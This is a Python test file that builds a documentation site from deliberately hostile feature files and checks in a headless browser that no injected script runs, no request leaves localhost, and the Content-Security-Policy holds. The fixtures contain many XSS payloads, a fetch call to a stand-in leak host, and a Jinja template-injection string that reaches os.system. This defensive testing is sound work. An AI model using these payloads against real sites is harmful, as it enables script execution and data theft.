"""A site built from hostile feature files, opened in chromium: nothing a feature file wrote runs.

The feature files below (in a scratch specification, in a temporary folder,
never under ``features/``) put script into every place a feature file has
text: the feature's name (which goes into every page's navigation), the
descriptions of the feature, a rule and scenarios, an exercise's question and
answer, step sentences, tables, docstrings, Examples and tags. They are run
(so the results page and the failure messages carry them too) and built into
a site with ``docs._hooks.build.build_site``. Every payload, if it ran, would
open a dialog, set ``window.pwned`` or ``data-pwned`` on the page, or make a
request to another host.

Each page (the home page, the hostile chapters, the results, the catalog) is
opened, every element is hovered, focused and clicked (links to other hosts
excepted: following a link is not a script), and the checks assert that no
dialog opened, no payload's mark is on the page, no request left 127.0.0.1,
and the Content-Security-Policy had nothing to block (the sanitiser left it
nothing). A last check shows the policy is a second line of defence: a page
with a script injected after it runs none of it. The widgets' URL settings
are untrusted too: hostile values in the nudge widget's URL change nothing.
"""

from __future__ import annotations

from pathlib import Path
from urllib.parse import urlparse

import pytest

from checks.serve import served
from docs._hooks.build import build_site
from speckit.authoring import project_files, run_scratch, scratch_specification, write_scratch_file
from speckit.features import ROOT

RUN = "window.pwned = true; document.documentElement.setAttribute('data-pwned', '1'); alert('pwned')"
FETCH = "fetch('https://pwned.example/leak')"

HOSTILE = {
    "01-markup.feature": f"""\
@learn @<b>tag</b>
Feature: <img src=x onerror="{RUN}"> A hostile name <script>{RUN}</script>
  <script>{RUN}</script> A description with a script,
  <iframe src="https://pwned.example/"></iframe> a frame, <img src="https://pwned.example/pixel.png">
  [a link](javascript:{RUN}) and [data](data:text/html,<script>{RUN}</script>)
  ![an image](https://pwned.example/pixel.png)
  <link rel="stylesheet" href="https://pwned.example/style.css">
  <meta http-equiv="refresh" content="0; url=https://pwned.example/">
  <base href="https://pwned.example/">

  A paragraph with an attribute list
  {{: onmouseover="{RUN}" onclick="{RUN}" }}

  <details open ontoggle="{RUN}"><summary onclick="{RUN}">Open me</summary>hidden</details>
  <svg onload="{RUN}"><script>{RUN}</script></svg>
  <math><mtext><table><mglyph><style><img src=x onerror="{RUN}"></style></mglyph></table></mtext></math>
  <a href="#" onfocus="{RUN}" autofocus>focus</a> <input autofocus onfocus="{RUN}">
  <div style="background:url(https://pwned.example/bg.png)">styled</div>

  Rule: <b onmouseover="{RUN}">A hostile rule</b>
    <object data="https://pwned.example/x.swf"></object><embed src="https://pwned.example/x.swf">
    <form action="https://pwned.example/"><button>send</button></form>
    <video src="https://pwned.example/v.mp4" onerror="{RUN}"></video>
    <audio src=x onerror="{RUN}"></audio>
    <noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>

    @exercise
    Scenario: An exercise <img src=x onerror="{RUN}">
      What is <a href="javascript:{RUN}">this</a>?

      Answer: <img src=x onerror="{RUN}"> nothing, <script>{FETCH}</script>.

      Given the XOR data set <script>{RUN}</script>
      Then the loss is at most 0.01

    Scenario Outline: An outline with <script>{RUN}</script> in its cells
      <img src=x onerror="{RUN}">

      Given the guide's 2-2-1 network with seed 0
      And the XOR data set
      Then the loss is at most <bound>

      Examples: <img src=x onerror="{RUN}">
        | bound                              |
        | <img src=x onerror="{RUN}">        |
        | 0.01                               |

  Scenario: A step with a table and a docstring
    Given the data:
      | x1 | x2 | y <script>{RUN}</script> |
      | 0  | 0  | <img src=x onerror="{RUN}"> |
    And a step nobody defined <img src=x onerror="{RUN}">
      \"\"\"
      <script>{RUN}</script>
      \"\"\"
""",
    "02-values.feature": """\
Feature: Values that reach for Python
  {{ cycler.__init__.__globals__.os.system("touch /tmp/pwned-by-a-feature-file") }}
  {{ "x" * 10**8 }}
  {% include "pyproject.toml" %}

  Scenario: Nothing but a data set
    Given the XOR data set
""",
}

OUTSIDE = [Path("/tmp/pwned-by-a-feature-file"), ROOT / "pwned"]
"""Files a payload would write if it ran."""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """The hostile scratch specification, run and built: (its folder, the new files the build left outside)."""
    scratch = scratch_specification(tmp_path_factory.mktemp("hostile") / "scratch")
    for name, text in HOSTILE.items():
        write_scratch_file(scratch, f"features/{name}", text)
    before = project_files()
    run_scratch(scratch, ["features", "--results-json", "results.json"])
    done = build_site(scratch / "features", scratch / "site", scratch / "results.json")
    assert done.returncode == 0, done.stderr[-3000:]
    return scratch, sorted(project_files() - before)


@pytest.fixture(scope="module")
def hostile_server(hostile):
    with served(hostile[0] / "site") as base:
        yield base


@pytest.fixture
def watched(browser, hostile_server):
    """A page that records dialogs, requests to other hosts and what the Content-Security-Policy blocked."""
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    seen: dict[str, list[str]] = {"dialogs": [], "outside": [], "blocked": [], "errors": [], "ran": []}

    def guard(route):
        if urlparse(route.request.url).hostname == "127.0.0.1":
            route.continue_()
        else:
            seen["outside"].append(route.request.url)
            route.abort()

    context.route("**/*", guard)
    page = context.new_page()
    # A payload that ran reports itself here, even if the page navigated away after it.
    page.expose_function("__pwned", lambda what: seen["ran"].append(what))
    page.add_init_script(WATCH)

    def dialog(d):
        seen["dialogs"].append(d.message)
        d.dismiss()

    page.on("dialog", dialog)
    page.on("console", lambda m: "Content Security Policy" in m.text and seen["blocked"].append(m.text))
    page.on("pageerror", lambda e: seen["errors"].append(str(e)))
    page.seen = seen
    yield page
    context.close()


WATCH = """
Object.defineProperty(window, 'pwned', {set() { window.__pwned('window.pwned'); }, get() { return undefined; }});
new MutationObserver(() => window.__pwned('data-pwned'))
  .observe(document, {attributes: true, subtree: true, attributeFilter: ['data-pwned']});
"""
"""Installed before any script of a page: setting the payloads' marks calls back into the check."""

# Hover, focus and click every element a reader could reach, in the page itself: a link to another host
# is not followed (that is navigation, not a script), and nothing is submitted.
PROVOKE = """() => {
  // The theme's search box is the theme's, not a feature file's: typing and clicking in it navigates.
  const all = [...document.querySelectorAll('body *')].filter(e => !e.closest('.md-search'));
  for (const e of all) {
    for (const type of ['mouseover', 'mouseenter', 'focus', 'focusin']) {
      e.dispatchEvent(new Event(type, {bubbles: true}));
    }
    if (typeof e.focus === 'function') e.focus();
    // A link (or anything inside one) to a page is followed, not run; a javascript: link would run: click it.
    const link = e.closest('a[href]'), href = link ? link.getAttribute('href').trim().toLowerCase() : '#';
    if (!href.startsWith('#') && !href.startsWith('javascript:')) continue;
    if (e.tagName === 'FORM' || e.type === 'submit') continue;
    if (e.tagName === 'DETAILS') e.open = true;
    if (typeof e.click === 'function') e.click();
  }
  return all.length;
}"""

PAGES = ["", "chapters/01-markup/", "chapters/02-values/", "results/", "step-catalog/"]


def _marks(page) -> dict:
    return page.evaluate(
        "() => ({pwned: window.pwned === true, attribute: document.documentElement.hasAttribute('data-pwned')})"
    )


def test_the_hostile_build_left_no_file_outside_the_scratch_folder(hostile):
    _, appeared = hostile
    assert appeared == [], f"new files in the project: {appeared[:10]}"
    assert [p for p in OUTSIDE if p.exists()] == []


@pytest.mark.parametrize("path", PAGES)
def test_nothing_a_feature_file_wrote_runs_on_load_hover_or_click(watched, hostile_server, path):
    response = watched.goto(hostile_server + path, wait_until="load")
    assert response is not None and response.ok, f"{path}: HTTP {response and response.status}"
    watched.wait_for_timeout(300)
    provoked = watched.evaluate(PROVOKE)
    # Hover with the real mouse too, over the visible text of the article and the navigation.
    for locator in watched.locator("article p:visible, article li:visible, article b:visible").all()[:40]:
        try:
            locator.hover(timeout=500)
        except Exception:  # noqa: BLE001 (covered or detached elements: the dispatch above reached them)
            continue
    watched.wait_for_timeout(500)
    seen = watched.seen
    assert seen["dialogs"] == [], f"{path}: dialogs opened: {seen['dialogs']}"
    assert seen["ran"] == [] and not _marks(watched)["attribute"], f"{path}: a payload ran: {seen['ran']}"
    assert seen["outside"] == [], f"{path}: requests to other hosts: {seen['outside']}"
    assert seen["blocked"] == [], f"{path}: the policy had to block: {seen['blocked'][:3]}"
    assert provoked > 100, f"{path}: only {provoked} elements on the page"
    print(f"hostile {path or 'home'}: {provoked} elements provoked, nothing ran")


def test_the_hostile_name_is_in_the_navigation_as_text(watched, hostile_server):
    watched.goto(hostile_server, wait_until="load")
    shown = watched.evaluate("() => document.querySelector('.md-nav--primary').textContent")
    assert '<img src=x onerror="window.pwned' in shown, shown[:500]


def test_a_refused_value_is_shown_on_its_chapter_with_the_file_and_the_line(watched, hostile_server):
    watched.goto(hostile_server + "chapters/02-values/", wait_until="load")
    problems = watched.locator(".bdd-problem").all_inner_texts()
    assert any("features/02-values.feature:2:" in p and "'__globals__'" in p for p in problems), problems


def test_the_policy_alone_stops_a_script_that_got_into_a_page(hostile, browser, tmp_path):
    """A page whose HTML carries script after the policy (as if the sanitiser had missed it) runs none of it."""
    site = hostile[0] / "site"
    page_html = (site / "chapters" / "01-markup" / "index.html").read_text(encoding="utf-8")
    at = page_html.index('<meta http-equiv="Content-Security-Policy"')
    at = page_html.index(">", at) + 1
    injected = f'<script>{RUN}</script><img src=x onerror="{RUN}"><a id=js href="javascript:{RUN}">x</a>'
    target = site / "chapters" / "injected" / "index.html"
    target.parent.mkdir(exist_ok=True)
    target.write_text(page_html[:at] + injected + page_html[at:], encoding="utf-8")
    with served(site) as base:
        context = browser.new_context()
        page = context.new_page()
        dialogs, blocked = [], []
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        page.on("console", lambda m: "Content Security Policy" in m.text and blocked.append(m.text))
        page.goto(base + "chapters/injected/", wait_until="load")
        page.evaluate("() => document.getElementById('js').click()")
        page.wait_for_timeout(500)
        marks = _marks(page)
        context.close()
    assert dialogs == [] and marks == {"pwned": False, "attribute": False}
    assert len(blocked) >= 2, f"the policy reported {blocked}"
    print(f"hostile: the policy blocked {len(blocked)} injected scripts and handlers")


def test_hostile_settings_in_the_nudge_widgets_url_change_nothing(watched, hostile_server):
    hostile_hash = (
        "#W1%5B0%2C0%5D=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"
        "&row=%3Cscript%3Ealert(1)%3C/script%3E&eps=javascript:alert(1)"
    )
    watched.goto(hostile_server + "nudge-it-yourself/" + hostile_hash, wait_until="load")
    watched.wait_for_timeout(500)
    watched.evaluate(PROVOKE)
    assert watched.seen["dialogs"] == [] and watched.seen["errors"] == [] and watched.seen["ran"] == [], watched.seen
    values = watched.locator("input[data-param]").evaluate_all("inputs => inputs.map(i => Number(i.value))")
    assert len(values) == 9 and all(v == v for v in values), f"the widget's parameters: {values}"
